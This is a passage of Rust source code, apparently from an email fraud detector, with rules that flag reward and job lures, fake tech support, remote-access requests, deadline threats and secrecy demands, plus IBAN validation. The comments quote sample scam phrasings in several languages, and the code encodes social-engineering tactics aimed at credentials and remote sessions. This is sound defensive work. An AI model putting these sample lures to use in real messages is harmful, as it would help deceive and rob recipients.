                            && (act.is_some() || has(C::ADDRESSEE) || to_everyone)
                        // "You have won ...", "vous avez gagné ...": the
                        // reader, as the subject, has won ("you win" in
                        // the present concedes a point).
                        || v.idx().any(|w| {
                            toks[w].cls & C::REWARD.bit() != 0
                                && matches!(
                                    self.word(w),
                                    "won" | "gewonnen" | "gagne" | "ganado" | "ganaste"
                                )
                                && v.near(w, C::ADDRESSEE, 3, 0).is_some_and(|a| {
                                    toks[a].cls & C::READER_OWN.bit() == 0
                                })
                        }))
                {
                    let why = format!("reward \"{}\" offered to the reader", self.word(r));
                    self.push(RiskCategory::RewardLure, why, &clause.toks, None);
                }

                // Job offer made to the reader (not someone applying).
                if free
                    && !warned
                    && !writer_applies
                    // "The same role as mine" in a grant is access, not a post.
                    && let Some(j) = v.idx().find(|&i| {
                        toks[i].cls & C::JOB.bit() != 0
                            && (toks[i].cls & C::O_ACCESS.bit() == 0
                                || !has(C::V_GRANT) && !has(C::V_GIVE))
                    })
                    && job_kinds >= 2
                    // A post with its pay ("a warehouse lead, EUR
                    // 61,000 a year", "rémunération 75-85 k€") is offered,
                    // to whoever reads it. A price "per month" is no post.
                    && (has(C::OFFER)
                        || has(C::ADDRESSEE)
                        || v.idx().any(|i| {
                            toks[i].cls & C::O_PAYROLL.bit() != 0
                                && toks[i + 1..v.range.end]
                                    .iter()
                                    .filter(|t| !t.covered)
                                    .take(2)
                                    // A figure, not the year of a study.
                                    .any(|t| t.digits && !self.is_year(t))
                        })
                        || v.amount().is_some()
                            && v.idx().any(|i| {
                                let w = self.word(i);
                                toks[i].cls & C::JOB.bit() != 0
                                    && !["per ", "pro ", "par ", "por ", "al "]
                                        .iter()
                                        .any(|p| w.starts_with(p))
                            }))
                {
                    let why = format!("job \"{}\" offered to the reader", self.word(j));
                    self.push(RiskCategory::JobOffer, why, &clause.toks, None);
                }

                // Free upgrade.
                if free
                    && !warned
                    && let Some((f, u)) = v.pair(C::FREE, C::UPGRADE)
                    && (has(C::ADDRESSEE) || has(C::OFFER) || act.is_some())
                {
                    let why = format!("\"{}\" \"{}\" offered", self.word(f), self.word(u));
                    self.push(RiskCategory::FreeUpgrade, why, &clause.toks, None);
                }

                // Help nobody asked for: "I can fix your slow laptop".
                if free
                    && let Some(h) = v.first(C::HELP_OFFER)
                    && has(C::ADDRESSEE)
                    && (has(C::PROBLEM) || has(C::SCARE))
                    && (has(C::O_DEVICE) || has(C::O_REMOTE) || has(C::O_ACCOUNT))
                    && (has(C::WRITER_SUBJECT) || has(C::SUPPORT_ROLE))
                {
                    let why = format!(
                        "offers to \"{}\" a problem with the reader's machine",
                        self.word(h)
                    );
                    self.push(RiskCategory::FakeTechSupport, why, &clause.toks, None);
                }
                // The same across sentences: the writer found a problem on
                // the reader's machine ("we detected a problem on your
                // device"), and someone of theirs offers to fix it ("our
                // technician will help you").
                if free
                    && (has(C::SCARE) || has(C::PROBLEM))
                    && has(C::ADDRESSEE)
                    && all & bits(&[C::O_DEVICE, C::O_REMOTE, C::O_SOFTWARE, C::O_ACCOUNT]) != 0
                    && !has(C::PROCESS)
                    && !has(C::WARNING)
                {
                    earlier_problem = found_problem.or(earlier_problem);
                    found_problem = Some((clause.sentence, clause.toks.start));
                    if act.is_none() && !has(C::WRITER_OWN) && !hypothetical {
                        reader_problem.get_or_insert(clause.toks.clone());
                    }
                }
                if pass == 0
                    && free
                    && writer_fixes.is_none()
                    && !has(C::PROCESS)
                    && !has(C::WARNING)
                    && let Some(h) = v.first(C::HELP_OFFER).filter(|&h| {
                        has(C::WRITER_SUBJECT)
                            || has(C::SUPPORT_ROLE)
                            || h > clause.toks.start && self.toks[h - 1].cls & C::PURPOSE.bit() != 0
                    })
                    && all
                        & bits(&[
                            C::O_DEVICE,
                            C::O_REMOTE,
                            C::O_SOFTWARE,
                            C::O_ACCOUNT,
                            C::PROBLEM,
                        ])
                        != 0
                {
                    writer_fixes = Some((h, clause.toks.clone()));
                }
                // Help is offered by the writer's people, or a technician
                // calls or connects: "our technician will call you".
                // After a problem found on the reader's machine, "we have a
                // fix ready" offers it to him without naming him.
                let after_problem =
                    found_problem.is_some_and(|(p, _)| clause.sentence.abs_diff(p) <= 2);
                let helper = v.first(C::HELP_OFFER).filter(|&h| {
                    has(C::SUPPORT_ROLE)
                        || has(C::WRITER_SUBJECT)
                        || has(C::WRITER_OWN)
                        // "To fix it fast, get <remote tool>": the help is
                        // the purpose of the tool the reader is sent to.
                        || after_problem
                            && h > clause.toks.start
                            && self.toks[h - 1].cls & C::PURPOSE.bit() != 0
                            && clauses
                                .iter()
                                .filter(|c| c.sentence == clause.sentence)
                                .flat_map(|c| c.toks.clone())
                                .any(|i| {
                                    self.toks[i].cls & (C::O_REMOTE.bit() | C::O_SOFTWARE.bit()) != 0
                                })
                });
                let technician = v
                    .first(C::V_CALL)
                    .or_else(|| v.first(C::V_CONNECT))
                    .filter(|_| has(C::SUPPORT_ROLE) && !has(C::PHONE_LINE));
                if free
                    && let Some(h) = helper.or(technician)
                    && (has(C::ADDRESSEE) || has(C::PRONOUN) || has(C::PROBLEM) || after_problem)
                    && !has(C::PROCESS)
                {
                    offered_help.get_or_insert((clause.sentence, h, clause.toks.clone()));
                }
                if free
                    && writer_calls.is_none()
                    && (has(C::WRITER_SUBJECT) || has(C::SUPPORT_ROLE))
                    && !has(C::PROCESS)
                    && !has(C::WARNING)
                    && let Some(c) = v.first(C::V_CALL).or_else(|| {
                        // Onto the reader's machine, not the writer's own.
                        v.first(C::V_CONNECT)
                            .filter(|_| has(C::O_DEVICE) || has(C::O_REMOTE))
                            .filter(|_| has(C::ADDRESSEE))
                            .filter(|&c| self.toks[c].cls & C::V_SIGNIN.bit() == 0)
                    })
                    // An announcement of its own, not part of the ask.
                    && act.is_none()
                    // A verb, not a noun after a possessive ("mon
                    // téléphone", "your phone").
                    && !(c > clause.toks.start
                        && (self.toks[c - 1].cls & C::WRITER_OWN.bit() != 0
                            || matches!(
                                self.word(c - 1),
                                "your" | "votre" | "vos" | "ihr" | "ihre" | "ihrem" | "ihren" | "su" | "sus" | "the" | "a" | "le" | "la" | "el" | "das" | "dem"
                            )))
                    // "Call us on this line" gives a number: callback bait.
                    && !v
                        .idx()
                        .any(|i| i != c && self.toks[i].cls & C::PHONE_LINE.bit() != 0)
                    && !self.told_as_done(&v)
                {
                    writer_calls = Some((c, clause.toks.clone()));
                }
                // A session onto the reader's machine announced by the
                // writer's side ("our engineer connects to your laptop at
                // noon", "wir schalten uns auf Ihren Rechner auf"): the
                // reader is to let it happen. Asked of nobody in words, it
                // is a remote-access request all the same.
                if pass == 0
                    && free
                    && act.is_none()
                    && (has(C::WRITER_SUBJECT) || has(C::SUPPORT_ROLE) || has(C::BENEFICIARY))
                    && !has(C::PROCESS)
                    && !has(C::WARNING)
                    && !self.told_as_done(&v)
                    && let Some(r) = v.first(C::O_REMOTE).or_else(|| {
                        v.first(C::V_CONNECT)
                            .filter(|&c| self.toks[c].cls & C::V_SIGNIN.bit() == 0)
                    })
                    && v.idx().any(|d| {
                        self.toks[d].cls & C::O_DEVICE.bit() != 0
                            && v.near(d, C::READER_OWN, 2, 0).is_some()
                    })
                {
                    let why = format!(
                        "the writer's side announces \"{}\" on the reader's machine",
                        self.word(r)
                    );
                    self.push(RiskCategory::RemoteAccess, why, &clause.toks, None);
                }
                // The offer comes after the finding, in a clause of its own.
                if let Some((s, h, range)) = offered_help.clone()
                    && let Some((p, _)) = [found_problem, earlier_problem]
                        .into_iter()
                        .flatten()
                        .find(|&(_, at)| range.start > at)
                    && s.abs_diff(p) <= 2
                {
                    let why = format!(
                        "a problem found on the reader's machine, and an offer to \"{}\" it",
                        self.word(h)
                    );
                    self.push(RiskCategory::FakeTechSupport, why, &range, None);
                }

                // An urgent patch to apply.
                // Severity said in the clause, or a deadline in the clause
                // and severity or a scare in the message ("a flaw is being
                // exploited. Run the update below today").
                let severe = |me: &Self| {
                    v.pair(C::PATCH, C::CRITICAL).or_else(|| {
                        v.pair(C::PATCH, C::URGENT)
                            .filter(|_| me.message_cls & (C::CRITICAL.bit() | C::SCARE.bit()) != 0)
                    })
                };
                if free
                    && act.is_some()
                    && let Some((p, c)) = severe(self)
                    && has(C::V_INSTALL)
                {
                    let why = format!("\"{}\" \"{}\" to apply", self.word(c), self.word(p));
                    self.push(RiskCategory::UrgentPatch, why, &clause.toks, None);
                }

                // Time pressure: a deadline on a request, or a threat of loss.
                // "Not urgent", "no rush" are none; a negation elsewhere in
                // the clause ("..., no later") does not undo the deadline.
                // "For urgent matters, call ..." names a kind of matter.
                let unnegated = |u: usize| {
                    let word = self.word(u);
                    v.near(u, C::NEGATION, 2, 0).is_none()
                        && !["non", "nicht", "pas", "no-"]
                            .iter()
                            .any(|n| word.starts_with(n))
                        && !(u.saturating_sub(2).max(v.range.start)..u).any(|j| {
                            matches!(
                                self.word(j),
                                "for" | "in" | "of" | "fur" | "bei" | "pour" | "para" | "non"
                            )
                        })
                };
                // A built deadline ("by Friday", "within 3 days") presses a
                // high-risk request or a charge to cancel; on an everyday
                // ask ("send the minutes by Friday") it is planning.
                let deadline = requested
                    || flags.cancel
                    || self
                        .found
                        .iter()
                        .any(|f| f.category == RiskCategory::CallbackBait);
                // A window of minutes or hours from now ("in the next ten
                // minutes you will get a prompt") presses the request it
                // leads to, in whichever clause it stands.
                // A bare "in" is when, not how soon: "I will connect in
                // five minutes" tells the plan.
                let short_window = |i: usize| {
                    toks[i].cls & C::DEADLINE_PREP.bit() != 0
                        && !matches!(self.word(i), "in" | "dans" | "en" | "vor" | "by")
                        && toks[i + 1..v.range.end]
                            .iter()
                            .filter(|t| !t.covered)
                            .take(3)
                            .any(|t| {
                                t.cls & C::TIME_UNIT.bit() != 0 && {
                                    let w = &self.buffer[t.start..t.end];
                                    ["min", "hour", "hr", "stund", "heure", "hora"]
                                        .iter()
                                        .any(|p| w.starts_with(p))
                                }
                            })
                };
                // "Die Frist lässt sich verlängern", "we can extend the
                // deadline": a deadline pushed back relieves the pressure.
                let eased = |i: usize| {
                    matches!(
                        self.word(i),
                        "frist"
                            | "deadline"
                            | "delai"
                            | "délai"
                            | "plazo"
                            | "echeance"
                            | "échéance"
                    ) && v.idx().any(|j| {
                        let w = self.word(j);
                        j.abs_diff(i) <= 8
                            && [
                                "extend",
                                "verlänger",
                                "verlanger",
                                "prolong",
                                "ampli",
                                "prorrog",
                                "postpon",
                            ]
                            .iter()
                            .any(|p| w.starts_with(p))
                    })
                };
                let urgent = v.idx().filter(|&i| !eased(i)).find(|&i| {
                    (toks[i].cls & C::URGENT.bit() != 0
                        || deadline && act.is_some() && toks[i].cls & C::DEADLINE.bit() != 0
                        || requested && short_window(i))
                        && unnegated(i)
                        // "Thank you for the quick help today" thanks for
                        // what was done ("gracias, es urgente" still presses).
                        && !v
                            .idx()
                            .take_while(|&j| j < i)
                            .skip_while(|&j| toks[j].cls & C::COURTESY.bit() == 0)
                            .any(|j| matches!(self.word(j), "for" | "fur" | "pour" | "por"))
                });
                // The loss may follow the condition after a comma, in the
                // sentence's next clause.
                let pressing = hypothetical && negated && !reported && requested;
                let next = clauses
                    .get(n + 1)
                    .filter(|c| pressing && c.sentence == clause.sentence)
                    .map(|c| View::of_clause(toks, self.visible, c));
                let threat_after_deadline = v
                    .first(C::THREAT)
                    .filter(|_| pressing)
                    .or_else(|| next.as_ref()?.first(C::THREAT))
                    .and_then(|t| {
                        // The condition's own negation ("is not restored
                        // within") is what the threat punishes, not a "no
                        // rush".
                        let d = v.idx().find(|&i| {
                            i < t && (toks[i].cls & C::DEADLINE.bit() != 0 || short_window(i))
                        })?;
                        let readers = has(C::ADDRESSEE)
                            || next
                                .as_ref()
                                .is_some_and(|w| w.all() & C::ADDRESSEE.bit() != 0);
                        readers.then_some((t, d))
                    });
                // The writer's own ask with a deadline ("I need this done
                // before three today", "il faut que ce soit fait avant ce
                // soir") presses whatever it asks for.
                let pressed = act.is_some_and(|(_, how)| match how {
                    "the writer's need"
                    | "a need for someone"
                    | "obligation on the reader"
                    | "polite request"
                    | "explicit ask" => true,
                    "imperative" => all & bits(&[C::WRITER_OBJECT, C::WRITER_OWN, C::PRONOUN]) != 0,
                    _ => false,
                });
                if !hypothetical
                    && !reported
                    && let Some(u) = urgent
                    && (requested
                        || pressed
                        || flags.cancel
                        || self
                            .found
                            .iter()
                            .any(|f| f.category == RiskCategory::CallbackBait))
                {
                    let why = format!("\"{}\" on a request", self.word(u));
                    self.push(RiskCategory::Urgency, why, &clause.toks, None);
                }
                // "Accounts not re-enrolled will be suspended", "admins who
                // do not verify will lose access": the negation names who
                // is threatened, before the "will" of the threat.
                let negated_who = negated
                    && !hypothetical
                    && !reported
                    // "Nothing will be deleted" promises.
                    && v.first(C::NEGATION).is_some_and(|n| {
                        !matches!(
                            self.word(n),
                            "nothing" | "nichts" | "rien" | "nada" | "never" | "nie" | "jamais"
                                | "nunca" | "nobody" | "niemand" | "personne" | "nadie"
                        ) && v.idx().any(|m| {
                            m > n
                                && toks[m].cls & C::MODAL.bit() != 0
                                && toks[m].cls & C::NEGATION.bit() == 0
                                && v.idx().any(|t| t > m && toks[t].cls & C::THREAT.bit() != 0)
                        })
                    });
                if (free || negated_who)
                    && act.is_none()
                    && let Some(t) = v.first(C::THREAT)
                    // "closed the ticket": the process, not the reader's service.
                    && v.near(t, C::PROCESS, 0, 3).is_none()
                    // Those who do not act are named by the negation.
                    && (has(C::ADDRESSEE) || negated_who)
                    && (has(C::O_ACCOUNT)
                        || has(C::O_ACCESS)
                        || has(C::O_DEVICE)
                        || has(C::TRANSACTION)
                        || has(C::O_DATA)
                        || has(C::O_CREDENTIAL))
                {
                    let why = format!(
                        "threat \"{}\" to the reader's account or service",
                        self.word(t)
                    );
                    self.threatened = true;
                    self.push(RiskCategory::Urgency, why, &clause.toks, None);
                }
                // "If the connection is not restored within 12 hours, your
                // rates will be closed": a deadline on the reader's not
                // doing what the message asked, and a loss after it.
                if let Some((t, d)) = threat_after_deadline {
                    let why = format!(
                        "threat \"{}\" after a deadline \"{}\" on the request",
                        self.word(t),
                        self.word(d)
                    );
                    self.push(RiskCategory::Urgency, why, &clause.toks, None);
                }

                // Secrecy: keep it quiet, skip the process, the writer can't be reached.
                // "Don't tell anyone": the anyone is who must not hear, not
                // someone reported.
                let only_others = v
                    .idx()
                    .filter(|&i| toks[i].cls & C::THIRD_PARTY.bit() != 0)
                    .all(|i| toks[i].cls & C::OTHERS.bit() != 0);
                if !hypothetical && (!reported || only_others) {
                    // "Don't tell anyone" keeps the request quiet; "never share
                    // your password with anyone" keeps a secret safe.
                    let guarded =
                        all & bits(&[
                            C::O_CREDENTIAL,
                            C::O_CODE,
                            C::O_MFA,
                            C::O_PAY_DEST,
                            C::O_DATA,
                        ]) != 0;
                    // "We ... won't be calling anyone on site": what the
                    // writer will not do, not what the reader must not.
                    // "Nous vous conseillons de ne pas en parler": the
                    // writer speaks to the reader, who is not to tell.
                    let writer_to_reader = v.idx().any(|i| {
                        toks[i].cls & C::WRITER_SUBJECT.bit() != 0
                            && v.near(i, C::ADDRESSEE, 0, 1).is_some()
                    });
                    let writers_plan = || {
                        has(C::WRITER_SUBJECT) && !writer_to_reader
                            || v.idx()
                                .next()
                                .is_some_and(|i| toks[i].cls & C::CONJUNCTION.bit() != 0)
                                && n > 0
                                && clauses[n - 1].sentence == clause.sentence
                                && clauses[n - 1]
                                    .toks
                                    .clone()
                                    .any(|i| toks[i].cls & C::WRITER_SUBJECT.bit() != 0)
                    };
                    // "Verrate es niemandem", "tell nobody yet": the one
                    // who must not hear carries the negation. As the
                    // one who tells ("nobody will contact you") it is a
                    // promise: the hearer follows the verb, or is dative.
                    let nobody = v.first(C::TELL_OTHER).and_then(|t| {
                        v.idx()
                            .find(|&i| match self.word(i) {
                                "niemandem" => true,
                                "nobody" | "nadie" => i > t,
                                _ => false,
                            })
                            .map(|i| (i, t))
                    });
                    // "Inutile d'en informer la direction", "no need to tell
                    // the team": no need, right before the telling.
                    let needless = v
                        .pair(C::NO_ACTION, C::TELL_OTHER)
                        .filter(|&(a, t)| a < t && t - a <= 3);
                    // "Bitte nichts verraten", "ne dites rien", "no digas
                    // nada", "say nothing": asked to tell nothing at all,
                    // whoever might hear.
                    let say_nothing = v
                        .idx()
                        .filter(|&t| toks[t].cls & C::TELL_OTHER.bit() != 0)
                        .find_map(|t| {
                            v.idx()
                                .filter(|&n| n.abs_diff(t) <= 2)
                                .find(|&n| {
                                    matches!(self.word(n), "nothing" | "nichts" | "rien" | "nada")
                                })
                                .map(|n| (n, t))
                        })
                        // Said as an ask, or as an order opening on the
                        // verb ("n'en dites rien", "no digas nada"); the
                        // clause is negated, so its act is read here.
                        .filter(|&(_, t)| {
                            act.is_some()
                                || self.act(&v).is_some()
                                || v.idx().find(|&i| {
                                    toks[i].cls & bits(&[C::NEGATION, C::FILLER]) == 0
                                        && self.word(i) != "en"
                                }) == Some(t)
                        });
                    let quiet = v
                        .pair(C::NEGATION, C::TELL_OTHER)
                        .or(needless)
                        .or(nobody)
                        .filter(|_| has(C::OTHERS))
                        .or(say_nothing)
                        .filter(|_| !guarded && !writers_plan());
                    let kept = v.pair(C::V_KEEP, C::SECRET).map(|(_, s)| s);
                    // "Tout ça reste entre nous": a phrase of
                    // secrecy (several words, not a footer's
                    // "confidential") in a message that asks for something.
                    let phrase = v
                        .first(C::SECRET)
                        .filter(|&s| requested && self.word(s).contains(' ') && !has(C::NEGATION));
                    // "Should" binds only the reader it names ("you should
                    // keep this quiet"), not a clause's "should the vote
                    // be settled".
                    let must = v.idx().any(|i| {
                        toks[i].cls & C::MUST.bit() != 0
                            && (self.word(i) != "should" || v.near(i, C::ADDRESSEE, 2, 0).is_some())
                    });
                    let secret = v
                        .first(C::SECRET)
                        .filter(|_| act.is_some() || must)
                        .or(kept)
                        .or(phrase);
                    // "Never ... without a ticket", "don't bypass the
                    // process": the process is kept, not skipped, and a
                    // phrase of skipping found there lures nobody.
                    // "Without a ticket" skips what follows it; "je clôture
                    // le ticket vendredi sans nouvelles de ta part" skips
                    // nothing.
                    let skip_pair = v.pair(C::SKIP, C::PROCESS).filter(|&(k, p)| {
                        p > k || !matches!(self.word(k), "without" | "sans" | "ohne" | "sin")
                    });
                    let process_kept = skip_pair.is_some_and(|(s, _)| {
                        v.idx()
                            .take_while(|&i| i < s)
                            .any(|i| toks[i].cls & C::NEGATION.bit() != 0)
                    });
                    if process_kept {
                        self.described
                            .push(toks[clause.toks.start].start..toks[clause.toks.end - 1].end);
                    }
                    let skip = skip_pair.filter(|_| requested && !process_kept);
                    // "I won't be able to take calls", "so can't really do
                    // a call": the writer, denied to the phone, cannot be
                    // called back to check (the subject may be dropped).
                    // An inability, not a promise ("we will not call you")
                    // nor a courtesy ("n'hésitez pas à nous appeler").
                    let unable = |w: &str| {
                        matches!(
                            w,
                            "can"
                                | "cannot"
                                | "could"
                                | "able"
                                | "unable"
                                | "kann"
                                | "konnte"
                                | "peux"
                                | "peut"
                                | "pourrai"
                                | "pourrais"
                                | "puedo"
                                | "podre"
                                | "podria"
                                | "podra"
                        )
                    };
                    let no_calls = || {
                        v.first(C::V_CALL).filter(|&c| {
                            let before: Vec<usize> = v.idx().take_while(|&n| n < c).collect();
                            let near = &before[before.len().saturating_sub(5)..];
                            near.iter().any(|&n| toks[n].cls & C::NEGATION.bit() != 0)
                                && near.iter().any(|&n| unable(self.word(n)))
                                && !has(C::ADDRESSEE)
                                && !has(C::THIRD_PARTY)
                                && !has(C::OTHERS)
                        })
                    };
                    let busy = v
                        .first(C::BUSY)
                        .filter(|_| has(C::WRITER_SUBJECT) || has(C::NEGATION))
                        .or_else(no_calls)
                        .filter(|_| requested);
                    if let Some(i) = quiet
                        .map(|(a, _)| a)
                        .or(secret)
                        .or(skip.map(|(a, _)| a))
                        .or(busy)
                    {
                        let why = format!("secrecy \"{}\"", self.word(i));
                        self.push(RiskCategory::Secrecy, why, &clause.toks, None);
                    }
                }
            }
        }
        // Quid pro quo: the writer will call or connect to the reader, or
        // found a problem on the reader's machine or account, and asks for
        // what a help desk would need to fix it (a session, a program, a
        // credential or a code): help nobody asked for.
        let ask = self.found.iter().find(|f| {
            matches!(
                f.category,
                RiskCategory::RemoteAccess
                    | RiskCategory::SoftwareInstall
                    | RiskCategory::CredentialReset
                    | RiskCategory::MfaReset
            )
        });
        if let Some(ask) = ask.map(|f| f.category) {
            let helper = writer_calls
                .map(|(c, range)| (format!("the writer will \"{}\"", self.word(c)), range))
                .or_else(|| {
                    reader_problem
                        .map(|range| ("a problem found on the reader's machine".to_owned(), range))
                })
                .or_else(|| {
                    writer_fixes.map(|(h, range)| {
                        (
                            format!(
                                "the writer offers to \"{}\" the reader's trouble",
                                self.word(h)
                            ),
                            range,
                        )
                    })
                });
            if let Some((said, range)) = helper {
                let why = format!("{said}, and a {ask} asked");
                self.push(RiskCategory::FakeTechSupport, why, &range, None);
            }
        }
    }
}

/// The writer's courtesy is "wir bitten", "ich bitte", "bitten wir
/// Sie": "bitten" with the writer beside it. "Sie bitten darum, ein
/// Tool aufzuspielen", "... und bitten um die PIN": whether
/// "sie" is they or the reader, someone asking is told of, and the
/// reader is asked for nothing. ("Können Sie bitte" is another word.)
fn courtesy_beside_writer(buffer: &str, toks: &mut [Tok]) {
    let word = |t: &Tok| &buffer[t.start..t.end];
    for i in 0..toks.len() {
        if !matches!(word(&toks[i]), "bitten" | "bittet") {
            continue;
        }
        let before = i.checked_sub(1).map(|p| word(&toks[p]));
        let after = toks.get(i + 1).map(word);
        if matches!(before, Some("wir" | "ich")) || matches!(after, Some("wir" | "ich" | "sie")) {
            continue;
        }
        if before == Some("sie") {
            toks[i - 1].cls = (toks[i - 1].cls & !C::ADDRESSEE.bit()) | C::THIRD_PARTY.bit();
        }
        toks[i].cls = (toks[i].cls & !C::POLITE.bit()) | C::ASK.bit();
    }
}

/// "Ils nous ont écrit ...", "vous nous avez appelés": after another
/// subject, French "nous" is the object, not the writer speaking.
fn nous_after_subject(buffer: &str, toks: &mut [Tok]) {
    for i in 1..toks.len() {
        if &buffer[toks[i].start..toks[i].end] == "nous"
            && matches!(
                &buffer[toks[i - 1].start..toks[i - 1].end],
                "ils" | "elles" | "il" | "elle" | "on" | "qui" | "vous"
            )
        {
            toks[i].cls &= !C::WRITER_SUBJECT.bit();
        }
    }
}

/// "I'd like to apply for the CRM role", "ma candidature pour le poste de
/// technicienne": the role or post a writer applies for is a job, not an
/// access right or a workstation. Only "apply for" and "application for"
/// count in English, where applying a role to a group is configuration.
fn jobs_applied_for(buffer: &str, toks: &mut [Tok]) {
    let word = |t: &Tok| &buffer[t.start..t.end];
    for i in 0..toks.len() {
        if toks[i].cls & C::APPLYING.bit() == 0 || toks[i].stop {
            continue;
        }
        let w = word(&toks[i]);
        let english = w.starts_with("appl");
        let mut j = i + 1;
        if english {
            if toks.get(j).is_none_or(|t| word(t) != "for") {
                continue;
            }
            j += 1;
        }
        // The post within a few words ("the junior CRM & email marketing
        // executive role"), in the same sentence.
        let end = (j + 8).min(toks.len());
        let post = C::O_ACCESS.bit() | C::O_DEVICE.bit();
        for t in &mut toks[j..end] {
            if t.cls & post != 0 {
                t.cls = (t.cls & !post) | C::JOB.bit();
                break;
            }
            if t.stop {
                break;
            }
        }
    }
}

/// Message-wide context the lures need.
#[derive(Debug, Default)]
struct Flags {
    scare: bool,
    cancel: bool,
    cancel_word: bool,
    transaction: bool,
    /// The writer told of a charge of their own: a customer's complaint.
    writers_charge: bool,
    support: bool,
    problem: bool,
    reward: bool,
    survey: bool,
    applying: bool,
    job_words: u32,
}

impl Flags {
    fn note(&mut self, all: Classes, free: bool, hypothetical: bool, writer_alone: bool) {
        let has = |c: C| all & c.bit() != 0;
        if free {
            self.scare |= has(C::SCARE);
            self.support |= has(C::SUPPORT_ROLE) || has(C::HELP_OFFER);
            self.problem |= has(C::PROBLEM);
            self.reward |= has(C::REWARD) && has(C::OFFER);
            self.survey |= has(C::SURVEY);
            self.job_words += u32::from(has(C::JOB));
        }
        // "If you did not authorise this charge", "to cancel, call": a charge
        // to undo is the lure (the charge may be named in another sentence).
        // The writer's own charge ("my card shows the fee
        // two times") is a customer's complaint, not the reader's charge
        // to undo.
        let writers_own = writer_alone && !has(C::ADDRESSEE) && !has(C::READER_OWN);
        if writers_own && has(C::TRANSACTION) {
            self.writers_charge = true;
        }
        self.cancel_word |= has(C::CANCEL);
        self.transaction |= has(C::TRANSACTION);
        self.cancel = self.cancel_word && self.transaction && !self.writers_charge;
        let _ = hypothetical;
        self.applying |=
            has(C::APPLYING) && has(C::WRITER_SUBJECT) || has(C::APPLYING) && has(C::WRITER_OWN);
    }
}

/// An IBAN found in the text, and whether its check digits hold.
struct Iban {
    number: String,
    checked: bool,
}

/// An IBAN starting at token `i`: country letters and check digits, then
/// groups, valid by ISO 13616 (mod 97), or labelled "IBAN" and of its
/// country's length.
fn iban_at(buffer: &str, toks: &[Tok], i: usize) -> Option<Iban> {
    let first = &buffer[toks[i].start..toks[i].end];
    let b = first.as_bytes();
    if b.len() < 4
        || !b[0].is_ascii_lowercase()
        || !b[1].is_ascii_lowercase()
        || !b[2].is_ascii_digit()
        || !b[3].is_ascii_digit()
    {
        return None;
    }
    if !b.iter().all(u8::is_ascii_alphanumeric) {
        return None;
    }
    let mut text = first.to_owned();
    let mut j = i + 1;
    while text.len() < 34 && j < toks.len() && toks[j].sep == Sep::None {
        let w = &buffer[toks[j].start..toks[j].end];
        if w.len() > 4 || !w.bytes().all(|c| c.is_ascii_alphanumeric()) {
            break;
        }
        text.push_str(w);
        j += 1;
    }
    // Try the longest prefix that validates (the next word may be glued on).
    for len in (15..=text.len().min(34)).rev() {
        let candidate = &text[..len];
        if iban_valid(candidate) {
            return Some(Iban {
                number: candidate.to_ascii_uppercase(),
                checked: true,
            });
        }
    }
    // Labelled "IBAN" (or an account: "Konto", "RIB"), or announced by a
    // colon, and of its country's length, it is given as an IBAN whatever
    // its check digits: a mistyped or invented number asked to be paid to
    // is a payment change all the same.
    let labelled = (i.saturating_sub(3)..i).any(|j| {
        &buffer[toks[j].start..toks[j].end] == "iban" || toks[j].cls & C::O_PAY_DEST.bit() != 0
    }) || i > 0 && toks[i - 1].colon;
    let length = iban_length(&text[..2])?;
    (labelled && text.len() == length).then(|| Iban {
        number: text.to_ascii_uppercase(),
        checked: false,
    })
}

/// The length of an IBAN of the country `code` (lower case), for the
/// countries whose banks our users pay: SEPA and its neighbours.
fn iban_length(code: &str) -> Option<usize> {
    Some(match code {
        "no" => 15,
        "be" => 16,
        "dk" | "fi" | "nl" | "fo" | "gl" => 18,
        "si" => 19,
        "at" | "ee" | "lt" | "lu" | "kz" => 20,
        "ch" | "hr" | "li" | "lv" => 21,
        "bg" | "de" | "gb" | "ie" | "me" | "rs" | "ge" => 22,
        "gi" | "ae" | "il" => 23,
        "cz" | "es" | "md" | "ro" | "se" | "sk" | "tn" | "pk" | "sa" => 24,
        "pt" => 25,
        "is" | "tr" => 26,
        "fr" | "gr" | "it" | "mc" | "sm" => 27,
        "al" | "cy" | "hu" | "pl" | "az" | "do" => 28,
        "br" | "qa" => 29,
        "mt" | "mu" => 30,
        _ => return None,
    })
}

fn iban_valid(s: &str) -> bool {
    let b = s.as_bytes();
    let mut rem: u32 = 0;
    for &c in b[4..].iter().chain(&b[..4]) {
        let v = match c {
            b'0'..=b'9' => u32::from(c - b'0'),
            b'a'..=b'z' => u32::from(c - b'a') + 10,
            _ => return false,
        };
        rem = if v >= 10 {
            (rem * 100 + v) % 97
        } else {
            (rem * 10 + v) % 97
        };
    }
    rem == 1
}

/// Where quoted history starts in a segment ("On ... wrote:", "-----Original
/// Message-----"), so the words above it are the writer's own.
fn history_start(folded: &str) -> Option<usize> {
    const MARKERS: &[&str] = &[
        " wrote:",
        "-----original message-----",
        " schrieb:",
        "-----ursprungliche nachricht-----",
        "-----ursprüngliche nachricht-----",
        " a ecrit :",
        " a ecrit:",
        " a écrit :",
        " a écrit:",
        "-----message d'origine-----",
        " escribio:",
        " escribió:",
        "-----mensaje original-----",
    ];
    // Built once: a searcher's set-up cost as much as its search.
    static FINDERS: LazyLock<Vec<memmem::Finder<'static>>> =
        LazyLock::new(|| MARKERS.iter().map(memmem::Finder::new).collect());
    let bytes = folded.as_bytes();
    let marked = FINDERS.iter().filter_map(|f| f.find(bytes)).min();
    marked.into_iter().chain(reply_header(bytes)).min()
}

/// Where a mail client's reply header starts ("From: ... Sent: ...", "De :
/// ... Envoyé : ...", "Von: ... Gesendet: ...", "De: ... Enviado: ..."):
/// the sender's field at a line's start, its date field soon after.
fn reply_header(lower: &[u8]) -> Option<usize> {
    const FIELDS: &[(&str, &[&str])] = &[
        ("from:", &["sent:", "date:"]),
        ("von:", &["gesendet:", "datum:"]),
        ("de :", &["envoye :", "envoyé :", "date :"]),
        (
            "de:",
            &["envoye:", "envoyé:", "enviado:", "fecha:", "date:"],
        ),
    ];
    /// How far after the sender's field its date field may stand.
    const REACH: usize = 300;
    static FINDERS: LazyLock<Vec<(memmem::Finder<'static>, Vec<memmem::Finder<'static>>)>> =
        LazyLock::new(|| {
            FIELDS
                .iter()
                .map(|(from, dates)| {
                    (
                        memmem::Finder::new(from),
                        dates.iter().map(memmem::Finder::new).collect(),
                    )
                })
                .collect()
        });
    FINDERS
        .iter()
        .filter_map(|(from, dates)| {
            from.find_iter(lower).find(|&at| {
                let line_start = at == 0 || matches!(lower[at - 1], b'\n' | b' ' | 1);
                let window = &lower[at..(at + REACH).min(lower.len())];
                line_start && dates.iter().any(|d| d.find(window).is_some())
            })
        })
        .min()
}

/// The writer's own words of a message part: the text above the quoted
/// history of a reply or forward, when there are some (eight words or
